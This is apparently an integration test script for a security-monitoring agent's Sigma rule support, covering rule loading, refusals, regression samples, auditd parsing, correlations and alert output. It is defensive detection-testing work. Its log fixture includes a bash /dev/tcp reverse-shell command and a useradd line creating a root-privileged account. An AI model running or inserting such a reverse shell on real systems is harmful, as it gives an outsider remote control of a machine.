#!/bin/bash
# Sigma rules (docs/SIGMA.md) through socctl and the agent's config check:
# - the shipped pack (rules/sigma) loads whole: every rule loaded, none refused;
# - SigmaHQ rules the engine can not run are refused, each with its reason,
#   and counted in the summary;
# - every SigmaHQ regression sample whose rule is in the pack, fed as JSON
#   lines, fires exactly the rules listed in tests/data/sigma/regression_expected.txt
#   (its own rule always among them), with the prefilter and without;
# - audit.log records (format: auditd) fire Sigma's auditd rules;
# - socagent --check-config takes rules.sigma and format: json, and prints
#   the summary.
set -u
. "$SOC_SRC/tests/integration/lib.sh"

CTL="$SOC_BIN/ctl/socctl"
AGENT="$SOC_BIN/agent/socagent"
PACK="$SOC_SRC/rules/sigma"
DATA="$SOC_TEST_DATA/sigma"
T=$(mktemp -d)
trap 'rm -rf "$T"' EXIT

# the pack: all loaded, none refused
run "$CTL" rules test --sigma "$PACK" -q </dev/null
expect_status 0
expect_err "socctl rules test: 2637 Sigma rule(s) loaded, 0 refused"
run "$CTL" rules test --sigma "$PACK/linux" --sigma "$PACK/web" -q </dev/null
expect_err "socctl rules test: 251 Sigma rule(s) loaded, 0 refused"

# refused, with the reason, and counted; the rest of a folder still loads
run "$CTL" rules test --sigma "$DATA/refused" --sigma "$PACK/web/webserver_generic" -v -q </dev/null
expect_status 0
expect_err "proxy_hktl_cobalt_strike_malleable_c2_requests.yml:33:9: warning: Sigma rule f3f21ce1-cdef-4bfc-8328-ed2e826f5fac refused (field): field 'cs-cookie' has no mapping for logsource web"
expect_err "proxy_download_susp_dyndns.yml:18:9: warning: Sigma rule 195c1119-ef07-4909-bb12-e66f5e07bf3c refused (field): field 'c-uri-extension' has no mapping for logsource web"
expect_err "loaded Sigma rule 7cb02516-6d95-4ffc-8eee-162075e111ac"
expect_err "refused (4 field)"

# the regression samples, as JSON lines, through the prefilter and without
CHECKS=$((CHECKS + 1))
python3 "$SOC_SRC/tests/integration/sigma_samples.py" "$CTL" "$PACK" "$DATA/regression" \
  "$DATA/regression_expected.txt" >"$T/samples.out" 2>&1 || fail "regression samples: $(cat "$T/samples.out")"
grep -q "^96 sample(s), 0 failed" "$T/samples.out" || fail "samples: $(tail -3 "$T/samples.out")"
CHECKS=$((CHECKS + 1))
python3 "$SOC_SRC/tests/integration/sigma_samples.py" "$CTL" "$PACK" "$DATA/regression" \
  "$DATA/regression_expected.txt" -- --no-prefilter >"$T/slow.out" 2>&1 ||
  fail "regression samples without the prefilter: $(cat "$T/slow.out")"

# auditd records
run "$CTL" rules test --sigma "$PACK/linux/auditd" --format auditd "$DATA/auditd.log"
expect_status 0
expect_out "74c01ace-0152-4094-8ae2-6fd776dd43e5 key=- count=1 first=2023-11-14T22:13:20.123Z"
expect_out "106d7cbd-80ff-4985-b682-a7043e5acb72 key=- count=1 first=2023-11-14T22:13:21.000Z"
expect_out "level=high author=\"Pawel Mazur\": type=SYSCALL"
CHECKS=$((CHECKS + 1))
[ "$(grep -c . <<<"$OUT")" -eq 2 ] || fail "auditd: expected 2 firings"

# the agent's config: rules.sigma and a format: json input
cat >"$T/agent.yaml" <<YAML
agent: { id: win-collect, agency: x, authority: 1, state_dir: $T/state }
contacts: [ { name: a, phone: "1" }, { name: b, phone: "2" } ]
inputs:
  - { type: file, paths: [ "$T/win.jsonl" ], format: json,
      time_field: Event.System.TimeCreated.SystemTime, host_field: Event.System.Computer }
  - { type: syslog, listen: "tcp://127.0.0.1:1514", format: json }
  - { type: file, paths: [ "$T/audit.log" ], format: auditd }
rules: { sigma: [ "$DATA/refused", "$PACK/windows/process_creation" ] }
kafka: { brokers: "127.0.0.1:9092" }
YAML
run "$AGENT" -c "$T/agent.yaml" --check-config
expect_status 0
expect_err "rules.sigma: 1183 Sigma rule(s) loaded, 4 refused (4 field)"
# the agent takes the JSON lines in as events (no syslog header looked for:
# no parse failures counted), and audit.log records
mkdir -p "$T/state"
python3 -c 'import json,sys; print(json.dumps(json.load(open(sys.argv[1]))))' \
  "$(ls "$DATA"/regression/rules/windows/process_creation/proc_creation_win_wmic_recon_hotfix/*.json)" >"$T/win.jsonl"
cp "$DATA/auditd.log" "$T/audit.log"
sed -i '/tcp:\/\/127.0.0.1:1514/d' "$T/agent.yaml"
run "$AGENT" -c "$T/agent.yaml" --oneshot
expect_status 0
run "$CTL" -c "$T/agent.yaml" status
expect_status 0
expect_out "/win.jsonl at byte"
CHECKS=$((CHECKS + 1))
! grep -q "parse_failures" <<<"$OUT" || fail "JSON or audit lines counted as syslog parse failures"
sed -i 's/format: auditd/format: xml/' "$T/agent.yaml"
run "$AGENT" -c "$T/agent.yaml" --check-config
expect_status 2
expect_err "format"

# the running agent on the Linux pack: a hit whose tactic shows impact (a
# privileged account made: persistence) is a draft, one without (a reverse
# shell typed: execution) an alert with no clock. Two correlations run in
# the agent too: both rules within 10 minutes (temporal), and fewer than 2
# /dev/tcp lines in a minute (decided when a later line closes the window)
mkdir -p "$T/lnx/state" "$T/lnx/corr"
cat >"$T/lnx/agent.yaml" <<YAML
agent: { id: lnx, agency: x, authority: 1, state_dir: $T/lnx/state }
contacts: [ { name: a, phone: "1" }, { name: b, phone: "2" } ]
inputs: [ { type: file, id: auth, paths: [ "$T/lnx/auth.log" ] } ]
rules: { sigma: [ "$PACK/linux/builtin", "$T/lnx/corr" ] }
kafka: { brokers: "127.0.0.1:9" }
YAML
cat >"$T/lnx/corr/both.yml" <<YAML
title: Account made, then a shell sent out
id: corr-both
correlation:
  type: temporal
  rules: [ 6cc5fceb-9a71-4c23-aeeb-963abe0b279c, 0ac15ec3-d24f-4246-aa2a-3077bb1cf90e ]
  timespan: 10m
  generate: true
YAML
cat >"$T/lnx/corr/once.yml" <<YAML
title: One /dev/tcp line alone
id: corr-once
correlation:
  type: event_count
  rules: [ 6cc5fceb-9a71-4c23-aeeb-963abe0b279c ]
  timespan: 1m
  condition: { lt: 2 }
  generate: true
YAML
{
  echo 'Dec 21 17:13:54 testserver useradd[1337]: new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash'
  echo 'Dec 21 17:20:01 testserver bash[1400]: bash -i >& /dev/tcp/192.0.2.9/4444 0>&1'
  echo 'Dec 21 17:30:00 testserver cron[1500]: (root) CMD (true)'
} >"$T/lnx/auth.log"
run "$AGENT" -c "$T/lnx/agent.yaml" --oneshot
expect_status 0
expect_err "Sigma rule(s) loaded"
run "$CTL" -c "$T/lnx/agent.yaml" drafts --json
check_py "Sigma in the agent: persistence is a draft" '
import json, sys
d = json.loads(sys.argv[1])
assert [x["rule"] for x in d] == ["0ac15ec3-d24f-4246-aa2a-3077bb1cf90e"], d' "$OUT"
run "$CTL" -c "$T/lnx/agent.yaml" alerts --json
check_py "Sigma in the agent: a reverse shell typed is an alert, no draft" '
import json, sys
a = {x["rule"]: x for x in json.loads(sys.argv[1])}
assert "0ac15ec3-d24f-4246-aa2a-3077bb1cf90e" in a, a
others = [x for r, x in a.items() if r != "0ac15ec3-d24f-4246-aa2a-3077bb1cf90e"]
assert others and all(x["impact"] == "none" for x in others), others
# DRL 1.1: the author goes with every alert of a Sigma rule
assert a["0ac15ec3-d24f-4246-aa2a-3077bb1cf90e"]["author"] == "Pawel Mazur", a
assert a["corr-both"]["count"] == 2 and a["corr-once"]["count"] == 1, a' "$OUT"
run "$CTL" -c "$T/lnx/agent.yaml" alerts
expect_out "       by Pawel Mazur"
# the alert as shipped carries the author and the references
CHECKS=$((CHECKS + 1))
sqlite3 "$T/lnx/state/agent.db" "SELECT payload FROM outbox WHERE topic = 'alerts'" >"$T/lnx/shipped" 2>&1 ||
  fail "outbox: $(cat "$T/lnx/shipped")"
grep -qF '"author":"Pawel Mazur","reference":["https:\/\/digital.nhs.uk\/cyber-alerts\/2018\/cc-2825"' "$T/lnx/shipped" ||
  fail "shipped alert without author and references: $(head -c 600 "$T/lnx/shipped")"
# the operator's impact table: the rule's own line makes it an alert
rm -rf "$T/lnx/state" && mkdir -p "$T/lnx/state"
sed -i 's|^rules: { sigma: \(.*\) }$|rules: { sigma: \1,\n  sigma_impact: { 0ac15ec3-d24f-4246-aa2a-3077bb1cf90e: alert } }|' "$T/lnx/agent.yaml"
run "$AGENT" -c "$T/lnx/agent.yaml" --oneshot
expect_status 0
run "$CTL" -c "$T/lnx/agent.yaml" drafts --json
check_py "rules.sigma_impact: no draft" '
import json, sys
assert json.loads(sys.argv[1]) == [], sys.argv[1]' "$OUT"

# expand: placeholders from the configuration (socctl rules test --with-config,
# as the agent takes them); without a value the rule is refused, saying why
cat >"$T/expand.yml" <<'YAML'
title: An administrator's process
id: t-expand
logsource: { product: windows, category: process_creation }
detection:
  s: { User|expand: '%admins%' }
  condition: s
YAML
echo '{"Event":{"System":{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational"},"EventData":{"User":"CORP\\bob"}}}' >"$T/expand.jsonl"
run "$CTL" rules test --sigma "$T/expand.yml" --format json "$T/expand.jsonl"
expect_err "refused (value): expand: placeholder %admins% has no values in rules.sigma_placeholders"
cat >"$T/expand.yaml" <<YAML
agent: { id: x, agency: x, authority: 1, state_dir: $T/xs }
contacts: [ { name: a, phone: "1" }, { name: b, phone: "2" } ]
rules: { sigma: [ "$T/expand.yml" ], sigma_placeholders: { admins: [ 'CORP\root', 'CORP\bob' ] } }
kafka: { brokers: "127.0.0.1:9" }
YAML
run "$CTL" -c "$T/expand.yaml" rules test --with-config --sigma "$T/expand.yml" --format json "$T/expand.jsonl"
expect_status 0
expect_out "t-expand key=- count=1"
run "$AGENT" -c "$T/expand.yaml" --check-config
expect_status 0
expect_err "rules.sigma: 1 Sigma rule(s) loaded, 0 refused"

finish
